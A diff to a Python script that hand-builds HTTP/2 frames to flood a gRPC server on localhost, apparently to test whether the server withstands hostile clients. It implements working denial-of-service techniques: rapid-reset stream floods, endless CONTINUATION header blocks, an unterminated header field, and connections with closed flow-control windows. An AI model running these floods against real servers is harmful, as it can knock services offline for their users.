@@ -2,19 +2,49 @@
 """Opens many HTTP/2 streams on one connection to a gRPC server, as a hostile client would, with
 hand-built frames (RFC 9113; no HTTP/2 library): each stream a GetAttention call's HEADERS, then
 with --reset its DATA and an RST_STREAM at once (the "rapid reset" pattern). Reads whatever the
-server sends for --hold seconds, then closes.
+server sends for --hold seconds, then closes. It never acknowledges the server's SETTINGS unless
+--settings_ack is given (--no_settings_ack, the default, says so explicitly): gRPC 1.51 applies
+its SETTINGS, MAX_CONCURRENT_STREAMS among them, only once the client has acknowledged them.
+
+With --continuation_bytes N it sends, on one connection whose SETTINGS it never acknowledges, a
+GetAttention call's HEADERS for stream 1 without END_HEADERS, then CONTINUATION frames of 16 KiB,
+each one whole literal header field, until N bytes were sent in all, --max_seconds passed or the
+server closed the connection: a header block without end. With --unterminated_field the HEADERS
+frame's block instead starts a literal header field with a huge declared length and the
+CONTINUATION frames carry that field's bytes, which no frame completes.
+
+In both of these modes it prints one JSON line at the end:
+    {"bytes_sent": ..., "streams_sent": ..., "closed_by_server": ..., "seconds": ...}
+bytes_sent counts the bytes the kernel took, streams_sent the streams whose HEADERS it took whole,
+closed_by_server is true when the server closed or reset the connection before the script did
+(while sending or during --hold), and seconds is the time spent sending. What the server sends is
+read all along, so that its writes never wait for this client; a send that makes no progress for
+10 s (a server that stops reading), or --max_seconds of sending in all, ends the sending.
 
 With --closed_window N it opens N connections instead, each with an initial flow-control window of
 0 (SETTINGS_INITIAL_WINDOW_SIZE) and one whole ListModels call, and holds them for --hold seconds
 without reading or ever opening the window: clients that ask and never take the answer.
 
-    h2_stream_flood.py --port PORT [--streams 20000] [--reset] [--hold 3]
+    h2_stream_flood.py --port PORT [--streams 20000] [--reset] [--settings_ack] [--hold 3]
+    h2_stream_flood.py --port PORT --continuation_bytes 536870912 [--unterminated_field] [--hold 3]
     h2_stream_flood.py --port PORT --closed_window 100 [--hold 3]
 """
 import argparse
+import bisect
+import json
+import select
 import socket
 import struct
+import sys
+import threading
 import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS_FRAME, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
+END_STREAM, ACK, END_HEADERS = 1, 1, 4
+# The largest frame payload a peer must accept before SETTINGS_MAX_FRAME_SIZE says more.
+MAX_FRAME_PAYLOAD = 1 << 14
+SEND_TIMEOUT_SECONDS = 10
 
 
 def frame(kind, flags, stream, payload):
@@ -50,6 +80,106 @@ MESSAGE = b"\x12\x0bhello world"
 BODY = b"\x00" + struct.pack(">I", len(MESSAGE)) + MESSAGE
 
 
+class Connection:
+    """A connection that counts the bytes the kernel takes and drains what the server sends on a
+    thread of its own, noting when the server closes or resets it."""
+
+    def __init__(self, port):
+        self.socket = socket.create_connection(("127.0.0.1", port), timeout=SEND_TIMEOUT_SECONDS)
+        self.bytes_sent = 0
+        self.closed_by_server = threading.Event()
+        self._closing = threading.Event()
+        self._reader = threading.Thread(target=self._drain, daemon=True)
+        self._reader.start()
+
+    def _drain(self):
+        while not self._closing.is_set():
+            readable, _, _ = select.select([self.socket], [], [], 0.1)
+            if not readable:
+                continue
+            try:
+                if self.socket.recv(1 << 20):
+                    continue
+            except socket.timeout:
+                continue
+            except OSError:
+                pass
+            if not self._closing.is_set():
+                self.closed_by_server.set()
+            return
+
+    def send(self, data):
+        """Sends all of `data`; False when the server closed or reset the connection or stopped
+        reading (no progress within the send timeout) first."""
+        view = memoryview(data)
+        try:
+            while view and not self.closed_by_server.is_set():
+                sent = self.socket.send(view)
+                self.bytes_sent += sent
+                view = view[sent:]
+        except ConnectionError:  # BrokenPipeError, ConnectionResetError and the like
+            self.closed_by_server.set()
+        except socket.timeout:
+            print("the server took nothing for %d s" % SEND_TIMEOUT_SECONDS, file=sys.stderr)
+        return not view
+
+    def hold(self, seconds):
+        """Waits `seconds` or until the server closes the connection, then closes it."""
+        self.closed_by_server.wait(seconds)
+        self._closing.set()
+        self._reader.join()
+        self.socket.close()
+
+
+def preface(settings_ack):
+    # An empty SETTINGS, and the ACK of the server's SETTINGS only when asked for.
+    ack = frame(SETTINGS, ACK, 0, b"") if settings_ack else b""
+    return PREFACE + frame(SETTINGS, 0, 0, b"") + ack
+
+
+def flood_streams(connection, streams, reset, settings_ack, deadline):
+    """Returns how many streams' frames the kernel took whole."""
+    if not connection.send(preface(settings_ack)):
+        return 0
+    sent, batch, ends = 0, b"", []
+    for i in range(streams):
+        stream = 1 + 2 * i
+        if reset:
+            batch += (frame(HEADERS_FRAME, END_HEADERS, stream, HEADERS) +
+                      frame(DATA, END_STREAM, stream, BODY) +
+                      frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))  # CANCEL
+        else:
+            batch += frame(HEADERS_FRAME, END_HEADERS, stream, HEADERS)  # the stream left open
+        ends.append(len(batch))
+        if len(batch) > 1 << 16 or i == streams - 1 or time.monotonic() >= deadline:
+            start = connection.bytes_sent
+            done = connection.send(batch)
+            sent += bisect.bisect_right(ends, connection.bytes_sent - start)
+            if not done or time.monotonic() >= deadline:
+                break
+            batch, ends = b"", []
+    return sent
+
+
+def flood_continuation(connection, total_bytes, unterminated_field, deadline):
+    """Returns 1 when the kernel took the HEADERS frame whole, else 0."""
+    if unterminated_field:
+        # A literal header field (RFC 7541 6.2.2) whose value is declared longer than all that
+        # will be sent, so that no CONTINUATION frame completes it.
+        block = b"\x00" + length_prefix(6) + b"x-junk" + length_prefix(max(total_bytes, 1 << 30))
+        payload = b"a" * MAX_FRAME_PAYLOAD
+    else:
+        block = HEADERS
+        payload = literal(b"x-junk", b"a" * (MAX_FRAME_PAYLOAD - 11))  # 11: type, name, lengths
+    if not connection.send(preface(False) + frame(HEADERS_FRAME, 0, 1, block)):  # no END_HEADERS
+        return 0
+    chunk = frame(CONTINUATION, 0, 1, payload) * 16
+    while connection.bytes_sent < total_bytes and time.monotonic() < deadline:
+        if not connection.send(chunk[:total_bytes - connection.bytes_sent]):
+            break
+    return 1
+
+
 def hold_closed_windows(port, connections, hold):
     headers = call_headers(b"ListModels")
     empty = b"\x00" + struct.pack(">I", 0)  # ListModelsRequest{}
@@ -72,40 +202,30 @@ def main():
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--streams", type=int, default=20000)
     parser.add_argument("--reset", action="store_true")
+    parser.add_argument("--settings_ack", dest="settings_ack", action="store_true")
+    parser.add_argument("--no_settings_ack", dest="settings_ack", action="store_false")
+    parser.add_argument("--continuation_bytes", type=int, default=0, metavar="N")
+    parser.add_argument("--unterminated_field", action="store_true")
+    parser.add_argument("--max_seconds", type=float, default=30.0)
     parser.add_argument("--hold", type=float, default=3.0)
     parser.add_argument("--closed_window", type=int, default=0, metavar="N")
     args = parser.parse_args()
     if args.closed_window:
         hold_closed_windows(args.port, args.closed_window, args.hold)
         return
-    connection = socket.create_connection(("127.0.0.1", args.port))
-    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
-    buffer = b""
-    try:
-        for i in range(args.streams):
-            stream = 1 + 2 * i
-            if args.reset:
-                buffer += (frame(1, 4, stream, HEADERS) + frame(0, 1, stream, BODY) +
-                           frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
-            else:
-                buffer += frame(1, 4, stream, HEADERS)  # END_HEADERS, the stream left open
-            if len(buffer) > 1 << 16:
-                connection.sendall(buffer)
-                buffer = b""
-        connection.sendall(buffer)
-    except OSError:
-        pass  # the server closed the connection: what a bounded server may do
-    connection.settimeout(0.2)
-    end = time.time() + args.hold
-    while time.time() < end:
-        try:
-            if not connection.recv(1 << 20):
-                break
-        except socket.timeout:
-            pass
-        except OSError:
-            break
-    connection.close()
+    connection = Connection(args.port)
+    start = time.monotonic()
+    deadline = start + args.max_seconds
+    if args.continuation_bytes:
+        streams = flood_continuation(connection, args.continuation_bytes, args.unterminated_field,
+                                     deadline)
+    else:
+        streams = flood_streams(connection, args.streams, args.reset, args.settings_ack, deadline)
+    seconds = time.monotonic() - start
+    connection.hold(args.hold)
+    print(json.dumps({"bytes_sent": connection.bytes_sent, "streams_sent": streams,
+                      "closed_by_server": connection.closed_by_server.is_set(),
+                      "seconds": round(seconds, 3)}), flush=True)
 
 
 if __name__ == "__main__":
